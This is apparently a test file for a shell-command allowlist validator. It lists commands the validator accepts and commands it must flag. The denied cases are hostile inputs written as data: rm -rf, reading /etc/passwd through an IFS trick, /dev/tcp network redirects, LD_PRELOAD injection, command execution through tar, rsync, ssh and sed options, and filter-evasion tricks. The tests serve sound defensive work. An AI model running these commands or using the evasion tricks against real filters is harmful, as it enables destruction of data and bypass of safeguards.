import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Finding } from "../../core/index.js";
import { type ShellOptions, shellKind } from "./index.js";
import { unwrap } from "./programs.js";

function codes(options: ShellOptions, command: unknown): string[] {
  const out: Finding[] = [];
  shellKind.compile(shellKind.options.parse(options))(command, "command", out);
  for (const finding of out) expect(finding.arg).toBe("command");
  return [...new Set(out.map((f) => f.code))].sort();
}

const base: ShellOptions = {
  programs: ["ls", "cat", "grep", "echo", "git log", "xargs", "env", "timeout", "find"],
};

describe("shell kind", () => {
  it.each([
    ["quoted operators", "echo 'a; b && c | d > e'"],
    ["escaped operators", "echo a\\;b \\> c"],
    ["comment", "ls # ; rm -rf /"],
    ["single-quoted substitution", "echo '$(rm -rf /)' '`id`'"],
    ["escaped dollar", 'echo "\\$(id)"'],
    ["here-doc with a quoted delimiter", "cat <<'X'\n$(rm -rf /)\nX"],
    ["here-string", "grep a <<< 'text'"],
    ["subcommand prefix", "git log --oneline -n 3"],
    ["quoted program name", "'ls' \"-la\""],
    ["fd duplication", "ls 2>&1 >/dev/null 3>&-"],
    ["input redirection", "grep a < input.txt"],
    ["negation and time", "! grep -q a f && time ls"],
    ["case statement", "case $x in a) ls;; *) echo no;; esac"],
    ["while loop", 'while read -r l; do echo "$l"; done < f'],
    ["nested wrappers", "timeout 5 env -i xargs -0 grep -l x"],
    ["find -exec of an allowed program", "find . -exec grep -H x {} \\;"],
    ["command -v style query through env", "env"],
  ])("allows a look-alike: %s", (_name, command) => {
    const options = { ...base, programs: [...base.programs, "read"] };
    expect(codes(options, command)).toEqual([]);
  });

  it.each([
    ["program after ;", "ls; rm x", "shell.not_allowed"],
    ["program after newline", "ls\nrm x", "shell.not_allowed"],
    ["program after &&", "ls && rm x", "shell.not_allowed"],
    ["program in a pipeline", "ls | sh", "shell.not_allowed"],
    ["program in a subshell", "(rm x)", "shell.not_allowed"],
    ["program in a brace group", "{ rm x; }", "shell.not_allowed"],
    ["program in an until loop", "until false; do ls; done", "shell.not_allowed"],
    ["program in a case arm", "case a in a) rm x;; esac", "shell.not_allowed"],
    ["program in a function body", "g() { rm x; }", "shell.not_allowed"],
    ["subcommand outside the prefix", "git push", "shell.not_allowed"],
    ["option before the subcommand", "git --git-dir=/x log", "shell.not_allowed"],
    ["split quotes", "r'm' x", "shell.not_allowed"],
    ["backslash in the name", "\\rm x", "shell.not_allowed"],
    ["line continuation", "r\\\nm x", "shell.not_allowed"],
    ["ANSI-C hex", "$'\\x72m' x", "shell.not_allowed"],
    ["relative path", "./ls", "shell.not_allowed"],
    ["variable program", "$X", "shell.dynamic_command"],
    ["partly variable program", "l$X", "shell.dynamic_command"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
    ["IFS trick", "cat${IFS}/etc/passwd", "shell.dynamic_command"],
    ["glob program", "/bin/l?", "shell.dynamic_command"],
    ["brace expansion program", "{ls,-la}", "shell.dynamic_command"],
    ["wrapper with a computed program", "env $X", "shell.dynamic_command"],
    ["wrapper with an unknown option", "timeout --frobnicate 5 ls", "shell.dynamic_command"],
    ["substitution", "ls $(echo x)", "shell.substitution"],
    ["backticks", "ls `echo x`", "shell.substitution"],
    ["nested backticks", "echo `echo \\`id\\``", "shell.substitution"],
    ["process substitution in", "cat <(ls)", "shell.substitution"],
    ["process substitution out", "ls > >(cat)", "shell.substitution"],
    ["substitution in a redirect target", "ls > $(echo f)", "shell.substitution"],
    ["substitution in an assignment index", "a[$(id)]=1", "shell.substitution"],
    ["substitution in a test", "[[ $(id) ]]", "shell.substitution"],
    ["substitution in arithmetic", "(( $(id) ))", "shell.substitution"],
    ["substitution in a for list", "for i in $(ls); do echo $i; done", "shell.substitution"],
    ["substitution in a case word", "case $(id) in *) ;; esac", "shell.substitution"],
    ["eval", "eval ls", "shell.eval"],
    ["dot", ". f", "shell.eval"],
    ["let with a subscript", "let 'a[$(id)]'", "shell.eval"],
    ["bash -c", "bash -c ls", "shell.eval"],
    ["clustered -ec", "sh -ec ls", "shell.eval"],
    ["xargs into sh -c", "xargs sh -c 'rm $1'", "shell.eval"],
    ["find -exec into bash -c", "find . -exec bash -c 'rm {}' \\;", "shell.eval"],
    ["env -S", "env -S 'rm x'", "shell.eval"],
    ["write", "ls > f", "shell.redirect"],
    ["append", "ls >> f", "shell.redirect"],
    ["clobber", "ls >| f", "shell.redirect"],
    ["both streams", "ls &> f", "shell.redirect"],
    ["read-write open", "ls <> f", "shell.redirect"],
    ["dup to a file name", "ls >& f", "shell.redirect"],
    ["write on a compound command", "{ ls; } > f", "shell.redirect"],
    ["computed target", "ls > $F", "shell.redirect"],
    ["network", "echo x > /dev/tcp/1.2.3.4/80", "shell.redirect"],
    ["background", "ls &", "shell.background"],
    ["background in a list", "ls & ls", "shell.background"],
    ["assignment prefix", "X=1 ls", "shell.env_assign"],
    ["bare assignment", "X=1", "shell.env_assign"],
    ["env assignment", "env X=1 ls", "shell.env_assign"],
    ["unterminated quote", "echo 'x", "shell.unparsable"],
    ["unterminated substitution", "echo $(ls", "shell.unparsable"],
    ["dangling operator", "ls &&", "shell.unparsable"],
    ["stray token", "ls ;; ls", "shell.unparsable"],
    ["NUL", "ls\u0000rm", "shell.unparsable"],
    ["not a string", ["ls"], "shell.unparsable"],
  ])("denies %s", (_name, command, code) => {
    expect(codes(base, command)).toContain(code);
  });

  it("allows what the policy allows, and never dangerous variables", () => {
    const open: ShellOptions = {
      programs: ["ls", "echo"],
      allow: { substitution: true, redirect_write: true, background: true, env_assign: true },
    };
    expect(codes(open, "X=1 ls $(echo a) > out &")).toEqual([]);
    expect(codes(open, "echo $(rm x)")).toEqual(["shell.not_allowed"]);
    expect(codes(open, "LD_PRELOAD=x ls")).toEqual(["shell.env_assign"]);
    expect(codes(open, "BASH_ENV=x ls")).toEqual(["shell.env_assign"]);
    expect(codes(open, "echo > /dev/tcp/h/1")).toEqual(["shell.redirect"]);
    expect(codes({ ...open, programs: ["export", "ls"] }, "export PATH=/tmp; ls")).toEqual([
      "shell.env_assign",
    ]);
    expect(codes({ programs: ["export"] }, "export FOO=1")).toEqual(["shell.env_assign"]);
  });

  it("accepts eval and sh -c only when listed as such", () => {
    expect(codes({ programs: ["eval", "ls"] }, "eval ls")).toEqual([]);
    expect(codes({ programs: ["bash"] }, "bash -c ls")).toEqual(["shell.eval"]);
    expect(codes({ programs: ["bash -c"] }, "bash -c ls")).toEqual([]);
    expect(codes({ programs: ["bash"] }, "bash script.sh")).toEqual([]);
  });

  it("needs wrappers listed and checks what they run", () => {
    expect(codes({ programs: ["ls"] }, "timeout 5 ls")).toEqual(["shell.not_allowed"]);
    expect(codes({ programs: ["ls", "sudo"] }, "sudo -u root ls")).toEqual([]);
    expect(codes({ programs: ["ls", "sudo"] }, "sudo -u ls rm")).toEqual(["shell.not_allowed"]);
    expect(codes({ programs: ["ls", "sudo"] }, "sudo -s ls")).toEqual(["shell.eval"]);
    expect(codes({ programs: ["ls", "nice"] }, "nice -n 5 ls")).toEqual([]);
    expect(codes({ programs: ["ls", "nice"] }, "nice -5 rm")).toEqual(["shell.not_allowed"]);
    expect(codes({ programs: ["git log", "command"] }, "command -v rm")).toEqual([]);
  });

  it("blocks options that make an allowed program run commands", () => {
    const tools: ShellOptions = { programs: ["tar", "rsync", "git", "ssh"] };
    expect(codes(tools, "tar -xf a.tar --to-command='sh'")).toEqual(["shell.eval"]);
    expect(codes(tools, "tar -I 'sh -c id' -xf a")).toEqual(["shell.eval"]);
    expect(codes(tools, "rsync -e 'sh -c id' a b")).toEqual(["shell.eval"]);
    expect(codes(tools, "git -c alias.x='!id' x")).toEqual(["shell.eval"]);
    expect(codes(tools, "ssh -o ProxyCommand='id' h")).toEqual(["shell.eval"]);
    expect(codes(tools, "tar -tf a.tar")).toEqual([]);
    expect(codes(tools, "git diff -- *.ts")).toEqual([]);
    expect(codes(tools, "tar cf a.tar *")).toEqual(["shell.dynamic_command"]);
  });

  it.each([
    ["find -delete", "find . -name '*.tmp' -delete", "shell.redirect"],
    ["find -fprint", "find . -fprint /tmp/list", "shell.redirect"],
    ["sort -o", "sort -o /etc/passwd users.txt", "shell.redirect"],
    ["sort -o in a cluster", "sort -uo/etc/passwd users.txt", "shell.redirect"],
    ["sort --output abbreviated", "sort --out=/etc/passwd users.txt", "shell.redirect"],
    ["sort --compress-program", "sort --compress-program=sh big.txt", "shell.eval"],
    ["uniq with an output operand", "uniq users.txt /etc/passwd", "shell.redirect"],
    ["tee", "cat a | tee /etc/motd", "shell.redirect"],
    ["tar extraction", "tar -xzf release.tgz", "shell.redirect"],
    ["tar creation", "tar czf backup.tgz src", "shell.redirect"],
    ["git log --output", "git log --output=/tmp/x", "shell.redirect"],
    ["sed -i", "sed -i 's/a/b/' f", "shell.redirect"],
    ["sed w command", "sed -n '/x/w /tmp/out' f", "shell.redirect"],
    ["sed e command", "sed -n '1e id' f", "shell.eval"],
    ["sed s///e", "sed 's/.*/id/e' f", "shell.eval"],
    ["sed script from a file", "sed -f script.sed f", "shell.dynamic_command"],
    ["option from a for loop", "for x in -delete; do find . $x; done", "shell.dynamic_command"],
    ["option from xargs input", "echo -delete | xargs find .", "shell.dynamic_command"],
    ["option from the xargs replace string", "echo -delete | xargs -I{} find . {}", "shell.dynamic_command"],
    ["exec option from xargs input", "echo --to-command=sh | xargs tar -xf a.tar", "shell.dynamic_command"],
  ])("denies a write or delete by an allowed program: %s", (_name, command, code) => {
    const tools = { programs: [...base.programs, "sort", "uniq", "tee", "tar", "sed", "git log"] };
    expect(codes(tools, command)).toContain(code);
  });

  it.each([
    ["find printing", "find . -name '*.ts' -print0"],
    ["find value that looks like a primary", "find . -name -delete"],
    ["find with a computed pattern", 'find . -name "$pattern"'],
    ["find -fprint to stdout", "find . -fprint /dev/stdout"],
    ["sort keys", "sort -t, -k2,2n data.csv"],
    ["sort key value ending in o", "sort -k2o data.csv"],
    ["sort -o to stdout", "sort -o /dev/stdout data.csv"],
    ["uniq reading one file", "uniq -c sorted.txt"],
    ["tee to nowhere", "ls | tee /dev/null"],
    ["tar listing", "tar -tzf release.tgz"],
    ["tar extraction to stdout", "tar -xOf release.tgz README"],
    ["tar creation to stdout", "tar czf - src"],
    ["git log one line", "git log --oneline -n 5"],
    ["sed print", "sed -n '1,5p' f"],
    ["sed substitution with other delimiters", "sed -e 's|/usr|/opt|g' -e 'y/abc/xyz/' f"],
    ["sed text containing w and e", "sed '/west/d; s/we/ew/2' f"],
    ["xargs into grep", "find . -name '*.ts' | xargs grep -l foo"],
  ])("allows a read-only use: %s", (_name, command) => {
    const tools = { programs: [...base.programs, "sort", "uniq", "tee", "tar", "sed", "git log"] };
    expect(codes(tools, command)).toEqual([]);
  });

  it("lets redirect_write allow writes by options, but not commands they run", () => {
    const build: ShellOptions = { programs: ["sort", "sed", "tar"], allow: { redirect_write: true } };
    expect(codes(build, "sort -o out.txt in.txt")).toEqual([]);
    expect(codes(build, "tar -xf a.tar && sed -i s/a/b/ f")).toEqual([]);
    expect(codes(build, "sed '1e id' f")).toEqual(["shell.eval"]);
  });

  it("handles a 10 KB command", () => {
    const command = Array.from({ length: 400 }, (_, i) => `grep -n 'pattern ${i}' file${i}.txt`).join(" | ");
    expect(command.length).toBeGreaterThan(10_000);
    expect(codes(base, command)).toEqual([]);
    expect(codes(base, `${command} | rm x`)).toEqual(["shell.not_allowed"]);
  });

  it("rejects bad options at load", () => {
    expect(shellKind.options.safeParse({}).success).toBe(false);
    expect(shellKind.options.safeParse({ programs: ["ls"], allow: { eval: true } }).success).toBe(false);
    expect(shellKind.options.safeParse({ programs: [""] }).success).toBe(false);
  });

  it("never throws, whatever the input", () => {
    const check = shellKind.compile({ programs: ["ls"] });
    const shellish = fc.stringMatching(/^[a-z $(){}<>|&;'"`\\\n=*?[\]#!-]{0,80}$/);
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string(), fc.anything()), (value) => {
        const out: Finding[] = [];
        check(value, "c", out);
        for (const finding of out) expect(finding.code).toMatch(/^shell\.[a-z_]+$/);
      }),
      { numRuns: 300 },
    );
  });
});

describe("unwrap", () => {
  it.each([
    [["timeout", "-s", "KILL", "5", "rm"], ["rm"]],
    [["timeout", "--signal=KILL", "5", "rm"], ["rm"]],
    [["xargs", "-n1", "-I{}", "rm"], ["rm"]],
    [["env", "-u", "HOME", "A=1", "rm"], ["rm"]],
    [["stdbuf", "-oL", "rm"], ["rm"]],
    [["nohup", "--", "rm"], ["rm"]],
  ])("%j runs %j", (words, runs) => {
    const result = unwrap(words);
    expect(result?.kind).toBe("command");
    expect(result?.kind === "command" && result.words).toEqual(runs);
  });
});

describe("nesting bound (fuzzing found multi-second parses of deeply nested substitutions)", () => {
  const check = shellKind.compile(
    shellKind.options.parse({ programs: ["echo", "find"], allow: { substitution: true } }),
  );
  it.each([
    ["nested $(( $(", `echo ${"$(( $(echo ".repeat(200)}1${"))".repeat(200)}`],
    ["nested quoted $(", `echo ${'"$(rm -rf '.repeat(500)}`],
    ["nested backquotes and braces", `echo ${"{ `".repeat(40)}x`],
  ])("%s is refused before parsing", (_name, command) => {
    const out: Finding[] = [];
    check(command, "command", out);
    expect(out.map((f) => f.code)).toContain("shell.unparsable");
    expect(out.find((f) => f.code === "shell.unparsable")?.message).toContain("nested more than 16 deep");
  });

  it("ordinary grouping and one substitution still parse", () => {
    const out: Finding[] = [];
    check('find . -name "*.ts" && { echo "$(echo ok)"; }', "command", out);
    expect(out).toEqual([]);
  });
});
